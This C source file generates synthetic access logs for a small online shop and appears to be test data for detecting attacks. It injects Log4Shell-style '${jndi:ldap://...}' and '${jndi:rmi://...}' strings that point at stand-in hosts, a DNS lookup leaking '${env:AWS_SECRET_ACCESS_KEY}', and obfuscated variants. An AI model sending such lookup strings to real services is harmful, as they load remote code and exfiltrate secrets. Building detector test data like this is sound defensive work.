/* Ordinary traffic of a small shop, and the lines its proxy writes. */
#include "loggen_lines.h"

#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

uint64_t gen_next(struct gen *g)
{
    uint64_t z = (g->state += 0x9e3779b97f4a7c15u);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
    return z ^ (z >> 31);
}

uint32_t gen_below(struct gen *g, uint32_t n) { return (uint32_t)(gen_next(g) % n); }

bool gen_chance(struct gen *g, double p) { return (double)(gen_next(g) >> 11) * 0x1p-53 < p; }

void line_byte(struct line *l, char c)
{
    if (l->n < sizeof l->p) l->p[l->n++] = c;
}

static void line_add(struct line *l, const char *p, size_t n)
{
    if (n > sizeof l->p - l->n) n = sizeof l->p - l->n;
    memcpy(l->p + l->n, p, n);
    l->n += n;
}

void line_text(struct line *l, const char *z) { line_add(l, z, strlen(z)); }

void line_printf(struct line *l, const char *fmt, ...)
{
    char text[512];
    va_list args;
    va_start(args, fmt);
    int n = vsnprintf(text, sizeof text, fmt, args);
    va_end(args);
    if (n > 0) line_add(l, text, (size_t)n < sizeof text ? (size_t)n : sizeof text - 1);
}

void line_hex(struct line *l, struct gen *g, unsigned digits)
{
    uint64_t v = 0;
    for (unsigned i = 0; i < digits; i++) {
        if (i % 16 == 0) v = gen_next(g);
        line_byte(l, "0123456789abcdef"[v & 15]);
        v >>= 4;
    }
}

static const char *const agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 12; Pixel 6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.92 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.1 Safari/605.1.15",
    "shop-mobile/4.12.1 (build 8812; en-GB)", "curl/7.74.0", "health-probe/2.1", "okhttp/4.9.3",
    "example-crawler/1.3 (+https://crawler.example/about)",
};
static const char *const paths[] = {
    "/", "/products", "/products/%u", "/products/%u/reviews?page=%u", "/cart", "/cart/items", "/api/v2/orders/%u",
    "/api/v2/search?q=lamp&page=%u", "/assets/app.%u.js", "/assets/site.%u.css", "/images/p/%u-640.webp", "/login", "/account/orders",
    "/healthz", "/robots.txt", "/api/v2/session/refresh", "/blog/2021/11/how-we-pack-%u", "/feed.xml",
};
static const char *const encoded_queries[] = {
    "/search?q=caf%C3%A9+au+lait&lang=fr", "/search?q=50%25+off&sort=price%3Aasc", "/go?to=https%3A%2F%2Fshop.example%2Foffers%3Fid%3D42",
    "/api/v2/search?filter%5Bcolour%5D=gr%C3%BCn&filter%5Bsize%5D=L", "/t?e=%7B%22ev%22%3A%22view%22%2C%22id%22%3A42%7D",
    "/wiki/K%C3%B8benhavn", "/files/Annual%20report%20%282020%29.pdf",
};
static const char *const referrers[] = {"-", "-", "https://shop.example/", "https://shop.example/products", "https://news.example/today?ref=top"};
#define PICK(g, table) (table)[gen_below(g, sizeof(table) / sizeof(table)[0])]

static void put_path(struct line *l, struct gen *g, const char *pattern)
{
    for (; *pattern; pattern++) {
        if (pattern[0] == '%' && pattern[1] == 'u') {
            line_printf(l, "%u", gen_below(g, 90000) + 100);
            pattern++;
        } else {
            line_byte(l, *pattern);
        }
    }
}

static void request_benign(struct request *r, struct gen *g, int64_t time, double encoded)
{
    r->time = time;
    r->path.n = r->referrer.n = r->agent.n = 0;
    bool six = gen_chance(g, 0.12);
    uint32_t host = gen_below(g, 1u << 17);
    if (six) (void)snprintf(r->client, sizeof r->client, "2001:db8:%x::%x", host >> 5, host & 0x1f);
    else (void)snprintf(r->client, sizeof r->client, "198.%u.%u.%u", 18 + (host >> 16), host >> 8 & 255, host & 255);
    r->method = gen_chance(g, 0.1) ? "POST" : "GET";
    if (gen_chance(g, encoded)) line_text(&r->path, PICK(g, encoded_queries));
    else put_path(&r->path, g, PICK(g, paths));
    line_text(&r->referrer, PICK(g, referrers));
    line_text(&r->agent, PICK(g, agents));
    r->status = gen_chance(g, 0.9) ? 200 : gen_chance(g, 0.5) ? 304 : gen_chance(g, 0.8) ? 404 : 500;
    r->size = gen_below(g, 60000);
    r->millis = gen_below(g, 900) + 1;
}

/* Puts the attack where real ones stand: mostly the user agent, then the query, the referrer, the path. */
static struct line *attack_field(struct request *r, struct gen *g)
{
    uint32_t where = gen_below(g, 100);
    if (where < 45) r->agent.n = 0;
    else if (where < 75) {
        r->path.n = 0;
        line_text(&r->path, "/?x=");
    } else if (where < 90) r->referrer.n = 0;
    else {
        r->path.n = 0;
        line_byte(&r->path, '/');
    }
    return where < 45 ? &r->agent : where < 75 ? &r->path : where < 90 ? &r->referrer : &r->path;
}

bool request_random(struct request *r, struct gen *g, int64_t time, double attacks, double encoded)
{
    request_benign(r, g, time, encoded);
    if (attacks <= 0 || !gen_chance(g, attacks)) return false;
    attack_random(attack_field(r, g), g);
    return true;
}

static void put_clf_time(struct line *l, int64_t time)
{
    time_t t = (time_t)time;
    struct tm tm;
    char text[40];
    (void)gmtime_r(&t, &tm);
    line_add(l, text, strftime(text, sizeof text, "%d/%b/%Y:%H:%M:%S +0000", &tm));
}

void line_combined(struct line *l, struct gen *g, const struct request *r)
{
    (void)g;
    line_printf(l, "%s - - [", r->client);
    put_clf_time(l, r->time);
    line_printf(l, "] \"%s ", r->method);
    line_add(l, r->path.p, r->path.n);
    line_printf(l, " HTTP/1.1\" %u %u \"", r->status, r->size);
    line_add(l, r->referrer.p, r->referrer.n);
    line_text(l, "\" \"");
    line_add(l, r->agent.p, r->agent.n);
    line_text(l, "\"\n");
}

static void put_json(struct line *l, const struct line *s)
{
    for (size_t i = 0; i < s->n; i++) {
        if (s->p[i] == '"' || s->p[i] == '\\') line_byte(l, '\\');
        line_byte(l, s->p[i]);
    }
}

void line_json(struct line *l, struct gen *g, const struct request *r)
{
    time_t t = (time_t)r->time;
    struct tm tm;
    char text[40];
    (void)gmtime_r(&t, &tm);
    line_text(l, "{\"time\":\"");
    line_add(l, text, strftime(text, sizeof text, "%Y-%m-%dT%H:%M:%S+00:00", &tm));
    line_printf(l, "\",\"remote_addr\":\"%s\",\"host\":\"shop.example\",\"request_method\":\"%s\",\"request_uri\":\"", r->client, r->method);
    put_json(l, &r->path);
    line_printf(l, "\",\"status\":%u,\"body_bytes_sent\":%u,\"request_time\":%u.%03u,\"http_referer\":\"", r->status, r->size,
                r->millis / 1000, r->millis % 1000);
    put_json(l, &r->referrer);
    line_text(l, "\",\"http_user_agent\":\"");
    put_json(l, &r->agent);
    line_text(l, "\",\"request_id\":\"");
    line_hex(l, g, 32);
    line_text(l, "\"}\n");
}

void line_dense(struct line *l, struct gen *g, const struct request *r)
{
    static const char *const bits[] = {
        "%E6%97%A5%E6%9C%AC", "&amp;filter%5Bprice%5D=10%2C99", "&utm_source=mail&utm_medium=x", "%20%26%20", "&sort=%2Bname",
        "%F0%9F%98%80", "\\xE2\\x82\\xAC", "&q=%D0%BB%D0%B0%D0%BC%D0%BF%D0%B0", "\\x22title\\x22", "&lt;b&gt;", "%7B%22id%22%3A7%7D",
    };
    struct request full = *r;
    line_byte(&full.path, '?');
    for (uint32_t n = 4 + gen_below(g, 8); n > 0; n--) line_text(&full.path, PICK(g, bits));
    line_combined(l, g, &full);
}

static const struct campaign sample_campaigns[] = {
    {.scheme = "ldap", .host = "198.51.100.23:1389", .path = "/Basic/Command/Base64/*"},
    {.scheme = "ldap", .host = "*.drip.example", .path = "/a", .obfuscation = OBF_LOWER},
    {.scheme = "ldap", .host = "*.hook.example:1389", .path = "/*", .obfuscation = OBF_DEFAULT, .encoding = ENC_PERCENT},
    {.scheme = "dns", .host = "${env:AWS_SECRET_ACCESS_KEY}.leak.example", .path = "/x"},
    {.scheme = "rmi", .host = "203.0.113.66:1099", .path = "/obj", .obfuscation = OBF_ENV, .encoding = ENC_PERCENT_TWICE},
    {.scheme = "ldap", .host = "*.oast.site", .path = "/probe"},
    {.scheme = "ldaps", .host = "*.late.example", .path = "/*", .obfuscation = OBF_NESTED, .encoding = ENC_BACKSLASH_X},
    {.literal = "${jndi:LDAP://203.0.113.9/*}"},             /* schemes are case-sensitive: connects nowhere */
    {.literal = "${jndi:ldap://203.0.113.9/*"},              /* the brace was forgotten */
    {.literal = "${${::-${::-$${::-j}}}}"},                  /* recursion */
    {.literal = "${env:DB_PASSWORD}", .encoding = ENC_HTML}, /* asks for a secret */
};
/* Per second: when each campaign begins, its rate then, and its rate at the end of the hour. */
static const struct {
    unsigned from;
    double rate, rate_end;
} sample_rates[] = {
    {360, 0.03, 0.06}, {1080, 0.02, 0.22}, {1500, 0.02, 0.12}, {1860, 0.01, 0.02}, {2100, 0.02, 0.03}, {2400, 0.05, 0.005}, {3000, 0.05, 0.35},
    {600, 0.004, 0.004}, {900, 0.003, 0.003}, {3300, 0.03, 0.06}, {1200, 0.003, 0.005},
};
enum { SAMPLE_CAMPAIGNS = sizeof sample_campaigns / sizeof sample_campaigns[0] };
#define SAMPLE_BENIGN 1.1

static double sample_rate(unsigned which, unsigned second)
{
    if (second < sample_rates[which].from) return 0;
    double done = (double)(second - sample_rates[which].from) / (3600.0 - sample_rates[which].from);
    return sample_rates[which].rate + (sample_rates[which].rate_end - sample_rates[which].rate) * done;
}

static double sample_total(unsigned second)
{
    double sum = SAMPLE_BENIGN;
    for (unsigned i = 0; i < SAMPLE_CAMPAIGNS; i++) sum += sample_rate(i, second);
    return sum;
}

unsigned sample_requests(struct gen *g, unsigned second)
{
    unsigned n = 0;
    for (double left = sample_total(second); left > 0; left -= 1) n += gen_chance(g, left);
    return n;
}

/* What is harmless or dead and holds a "${" all the same: a broken shop template, and bypasses that never worked. */
static bool sample_oddity(struct request *r, struct gen *g)
{
    static const char *const odd[] = {"/cart?label=${productName}", "/static/${build.version}/app.js", "/docs?tpl=$%7Buser%7D"};
    if (!gen_chance(g, 0.004)) return false;
    r->path.n = 0;
    line_text(&r->path, PICK(g, odd));
    r->status = 404;
    return true;
}

void sample_request(struct request *r, struct gen *g, unsigned second)
{
    request_benign(r, g, SAMPLE_START + (int64_t)second, 0.05);
    double at = (double)(gen_next(g) >> 11) * 0x1p-53 * sample_total(second) - SAMPLE_BENIGN;
    if (at < 0) {
        (void)sample_oddity(r, g);
        return;
    }
    for (unsigned i = 0; i < SAMPLE_CAMPAIGNS; i++) {
        at -= sample_rate(i, second);
        if (at >= 0) continue;
        r->status = gen_chance(g, 0.7) ? 404 : 200;
        (void)snprintf(r->client, sizeof r->client, "192.0.2.%u", gen_below(g, 250) + 1);
        attack_put(attack_field(r, g), g, &sample_campaigns[i]);
        return;
    }
}
